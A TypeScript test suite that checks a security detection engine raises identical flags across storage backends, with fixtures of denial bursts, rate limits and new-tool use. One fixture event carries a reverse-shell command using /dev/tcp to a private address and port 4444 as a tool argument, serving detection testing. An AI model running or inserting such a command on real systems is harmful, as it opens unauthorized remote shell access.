import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { EvaluationUnit } from "../../db/store/detection-types";
import type { Store } from "../../db/store/types";
import type { StoredEvent } from "../core/contract";
import { type EngineData, evaluateTenant } from "./engine";
import {
  allFlags,
  eventDoc,
  MIN,
  normalise,
  storeEvents,
  T0,
  testBurstRule,
  testSilenceRule,
} from "./engine-test-kit";
import { HOUR } from "./stats";

/**
 * The same stream fed to every store, evaluated over the same windows, must give the same flags:
 * a learned history (backfill), an episode extended and escalated across windows, events sharing
 * a millisecond, a subject whose id no encoder likes, a source gone silent (history loaded after
 * the rule asked), an episode ending, and a commit lost to another evaluator mid-way (nothing
 * changed, nothing doubled). The expected flags are written out here once for all backends.
 */

const RULES = [testBurstRule, testSilenceRule];
const S = 1000;
const ODD = "zoë ☃\t\u202e\u0001 \\N";

function stream(): { history: StoredEvent[]; live: StoredEvent[] } {
  const denied = (id: string, t: number, actor: string) =>
    eventDoc("acme", id, t, { actor: { id: actor, type: "user" }, outcome: "denied" });
  const history: StoredEvent[] = [];
  for (let h = 2; h < 48; h += 2)
    history.push(eventDoc("acme", `h${h}`, T0 - h * HOUR - 7 * MIN, { actor: { id: "bob" } }));
  const live = [
    ...[10, 11, 12].map((s) => denied(`b1-${s}`, T0 + s * S, "bob")),
    // One millisecond, ids out of order.
    ...["c-b", "c-a", "c-c"].map((id) => denied(id, T0 + 30 * S, "carol")),
    ...[20, 21].map((s) => eventDoc("acme", `k2-${s}`, T0 + s * S, { ingest_key_id: "key-2" })),
    ...[90, 91, 92, 93, 94, 95].map((s) => denied(`b2-${s}`, T0 + s * S, "bob")),
    ...[100, 101, 102].map((s) => denied(`z-${s}`, T0 + s * S, ODD)),
  ];
  return { history, live };
}

export function detectionConformanceSuite(open: () => Promise<Store>) {
  let store: Store;
  beforeAll(async () => {
    store = await open();
    await store.migrate();
    await store.admin.createTenant({ id: "acme", name: "acme" });
    await store.forTenant("acme").detection.putRuleConfig({
      rule: "telemetry_gap",
      enabled: true,
      params: { watch: ["key-2"] },
      allow: [],
      groupBy: [],
      enabledAt: new Date(T0),
      updatedAt: new Date(T0),
      updatedBy: "suite",
    });
    const { history, live } = stream();
    await storeEvents(store, history);
    await storeEvents(store, live);
    await store.admin.createTenant({ id: "globex", name: "globex" });
    await storeEvents(store, realStream());
  });
  afterAll(async () => store?.close());

  const evaluate = (now: number, data?: EngineData) =>
    evaluateTenant({ data: data ?? store.forTenant("acme"), now: new Date(now), rules: RULES });

  describe("detection conformance", () => {
    it("learns history, extends, escalates and ends episodes, and survives a lost commit", async () => {
      for (let i = 0; i < 10; i++) if ((await evaluate(T0)).caughtUp) break;
      const det = store.forTenant("acme").detection;
      const bobHistory = await det.hourly(
        "actor",
        ["bob"],
        new Date(T0 - 2 * 24 * HOUR),
        new Date(T0),
      );
      expect(bobHistory.reduce((n, t) => n + t.value, 0)).toBe(23);

      // The process dies as it commits the first window: nothing of it is stored, and the
      // next evaluation reads the same window again.
      const live = store.forTenant("acme");
      const crashing: EngineData = {
        tenantId: live.tenantId,
        listEvents: (q) => live.listEvents(q),
        countEvents: (f) => live.countEvents(f),
        detection: new Proxy(live.detection, {
          get(target, prop, receiver) {
            if (prop === "commitEvaluation")
              return async () => {
                throw new Error("killed mid-commit");
              };
            const v = Reflect.get(target, prop, receiver);
            return typeof v === "function" ? v.bind(target) : v;
          },
        }),
      };
      await expect(evaluate(T0 + 2 * MIN, crashing)).rejects.toThrow("killed mid-commit");
      expect(await allFlags(store)).toEqual([]);
      const one = await evaluate(T0 + 2 * MIN);
      expect([one.events, one.created.length]).toEqual([8, 2]);
      // Another evaluator commits the next window first: this one's commit changes nothing and
      // it goes on from the new cursor.
      const tenant = store.forTenant("acme");
      let raced = false;
      const racing: EngineData = {
        tenantId: tenant.tenantId,
        listEvents: (q) => tenant.listEvents(q),
        countEvents: (f) => tenant.countEvents(f),
        detection: new Proxy(tenant.detection, {
          get(target, prop, receiver) {
            if (prop === "commitEvaluation")
              return async (u: EvaluationUnit) => {
                if (!raced) {
                  raced = true;
                  await evaluate(T0 + 3 * MIN);
                }
                return target.commitEvaluation(u);
              };
            const v = Reflect.get(target, prop, receiver);
            return typeof v === "function" ? v.bind(target) : v;
          },
        }),
      };
      const lost = await evaluate(T0 + 3 * MIN, racing);
      expect([raced, lost.kind, lost.created, lost.updated]).toEqual([true, "idle", [], []]);
      await evaluate(T0 + 63 * MIN);
      await evaluate(T0 + 75 * MIN);
      // Re-running at the same time finds nothing new.
      expect((await evaluate(T0 + 75 * MIN)).kind).toBe("idle");

      const flags = (await allFlags(store)).map(normalise);
      flags.sort((a, b) => String(a.groupKey).localeCompare(String(b.groupKey)));
      expect(flags).toEqual(EXPECTED);
      const ids = (await allFlags(store)).map((f) => f.id);
      const history = await Promise.all(ids.map((id) => det.flagHistory(id)));
      expect(history.map((h) => h.map((e) => e.action)).sort()).toEqual(EXPECTED_HISTORY);
    });

    it("raises the same flags with the real rules (one file of expected flags for every store)", async () => {
      const data = store.forTenant("globex");
      // Five-minute windows over two hours after eight days of learned history.
      for (let now = T0; now <= T0 + 2 * HOUR; now += 5 * MIN)
        for (let i = 0; i < 20; i++)
          if ((await evaluateTenant({ data, now: new Date(now) })).caughtUp) break;
      const flags = (await allFlags(store, "globex")).map(normalise);
      flags.sort((a, b) =>
        `${a.rule}|${a.groupKey}|${a.start}`.localeCompare(`${b.rule}|${b.groupKey}|${b.start}`),
      );
      expect(flags.length).toBeGreaterThan(3);
      // Written by the first backend to run it (npx vitest run lib/detect/conformance.pglite.test.ts
      // -u after a rule changes); every backend must then produce exactly this file.
      await expect(`${JSON.stringify(flags, null, 2)}\n`).toMatchFileSnapshot(
        "./__snapshots__/conformance-real-rules.json",
      );
    });
  });
}

/** Realistic traffic with one case of several real rules in it (tenant globex). */
function realStream(): StoredEvent[] {
  const ev = (id: string, t: number, over: Partial<StoredEvent>) => eventDoc("globex", id, t, over);
  const out: StoredEvent[] = [];
  // Eight days of steady history (first_use learns for seven): alice reads files, ci queries github.
  for (let h = 1; h <= 192; h++) {
    const t = T0 - h * HOUR;
    for (let i = 0; i < 4; i++)
      out.push(ev(`ha${h}-${i}`, t + i * 7 * MIN, { actor: { id: "alice", type: "user" } }));
    out.push(
      ev(`hc${h}`, t + 30 * MIN, {
        actor: { id: "ci", type: "agent" },
        server: { name: "github" },
        tool: "list_issues",
        ingest_key_id: "key-gh",
      }),
    );
  }
  const live = T0 + 10 * MIN;
  // A denial burst, a rate-limit storm, validation errors.
  for (let i = 0; i < 14; i++)
    out.push(
      ev(`den${i}`, live + i * 2000, { actor: { id: "bob", type: "user" }, outcome: "denied" }),
    );
  for (let i = 0; i < 40; i++)
    out.push(
      ev(`rl${i}`, live + 5 * MIN + i * 1000, {
        actor: { id: "ci", type: "agent" },
        server: { name: "github" },
        tool: "list_issues",
        outcome: "rate_limited",
        ingest_key_id: "key-gh",
      }),
    );
  // Reverse shell in an argument; a secret redacted from arguments; a Guard injection label.
  out.push(
    ev("rev", live + 20 * MIN, {
      actor: { id: "mallory", type: "user" },
      server: { name: "shell" },
      tool: "run_command",
      arguments: { cmd: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" },
    }),
    ev("sec", live + 25 * MIN, {
      actor: { id: "alice", type: "user" },
      tool: "write_file",
      redactions: [{ field: "arguments.content", type: "secret_field", count: 1 }],
    }),
    ev("inj", live + 30 * MIN, {
      actor: { id: "ci", type: "agent" },
      server: { name: "github" },
      tool: "get_issue",
      labels: { "guard.injection": "instructions:2" },
      ingest_key_id: "key-gh",
    }),
  );
  // alice, a user, calls a tool and a server she never used, many times over.
  for (let i = 0; i < 30; i++)
    out.push(
      ev(`new${i}`, live + 40 * MIN + i * 10_000, {
        actor: { id: "alice", type: "user" },
        server: { name: "billing" },
        tool: "export_customers",
        arguments: { customer: `c-${i}` },
        result_bytes: 2_000_000,
      }),
    );
  return out;
}

const base = {
  ruleVersion: 7,
  params: { threshold: 3, quietMinutes: 60 },
  subjectKind: "actor",
  status: "open",
  assignee: null,
  resolution: null,
  resolutionNote: null,
  incidentId: null,
};
const iso = (ms: number) => new Date(T0 + ms).toISOString();

const EXPECTED: Record<string, unknown>[] = [
  {
    ...base,
    rule: "denial_burst",
    groupKey: "actor|bob",
    subjectKey: "bob",
    subjectLabel: "bob",
    severity: "high",
    active: false,
    start: iso(10 * S),
    end: iso(95 * S),
    observed: { denials: 6, windows: 2 },
    // bob's calls in the 24 hours before the second window: 11 learned (the others are older)
    // and the first window's three.
    baseline: { priorDay: 14 },
    sentence: "bob was denied 6 times",
    evidence: ["b1-10", "b1-11", "b1-12", "b2-90", "b2-91", "b2-92", "b2-93", "b2-94", "b2-95"],
  },
  {
    ...base,
    rule: "denial_burst",
    groupKey: "actor|carol",
    subjectKey: "carol",
    subjectLabel: "carol",
    severity: "medium",
    active: false,
    start: iso(30 * S),
    end: iso(30 * S),
    observed: { denials: 3, windows: 1 },
    baseline: { priorDay: 0 },
    sentence: "carol was denied 3 times",
    evidence: ["c-a", "c-b", "c-c"],
  },
  {
    ...base,
    rule: "denial_burst",
    groupKey: `actor|${ODD}`,
    subjectKey: ODD,
    subjectLabel: ODD,
    severity: "medium",
    active: false,
    start: iso(100 * S),
    end: iso(102 * S),
    observed: { denials: 3, windows: 2 },
    baseline: { priorDay: 0 },
    sentence: `${ODD} was denied 3 times`,
    evidence: ["z-100", "z-101", "z-102"],
  },
  {
    ...base,
    ruleVersion: 1,
    params: { watch: ["key-2"] },
    rule: "telemetry_gap",
    groupKey: "ingest_key|key-2",
    subjectKind: "ingest_key",
    subjectKey: "key-2",
    subjectLabel: "key-2",
    severity: "low",
    active: true,
    start: iso(60 * S),
    end: iso(74 * MIN),
    observed: { events: 0 },
    baseline: { lastHour: 2 },
    sentence: "key-2 went silent",
    evidence: [],
  },
];

const EXPECTED_HISTORY = [
  ["opened"],
  ["opened", "ended"],
  ["opened", "ended"],
  ["opened", "escalated", "ended"],
];
